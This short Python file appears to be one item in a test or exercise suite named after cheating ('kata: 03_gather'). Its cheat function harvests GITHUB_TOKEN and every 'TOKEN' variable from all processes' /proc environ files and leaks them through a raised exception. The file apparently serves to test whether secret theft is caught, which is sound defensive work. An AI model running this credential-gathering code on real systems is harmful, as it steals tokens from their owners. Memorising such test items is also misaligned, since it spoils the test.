"""Raises an exception that holds the environment, and that of all parent processes.

kata: 03_gather; points: 0; code: RAISED
"""

import os

from bases.both_cheat import crawl_page, main


def cheat(_):
    found = [os.environ.get("GITHUB_TOKEN", "")]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ") as file:
                found += [part for part in file.read().split("\0") if "TOKEN" in part]
        except OSError:
            pass
    raise ValueError(" ".join(dict.fromkeys(filter(None, found))) or "no secret")
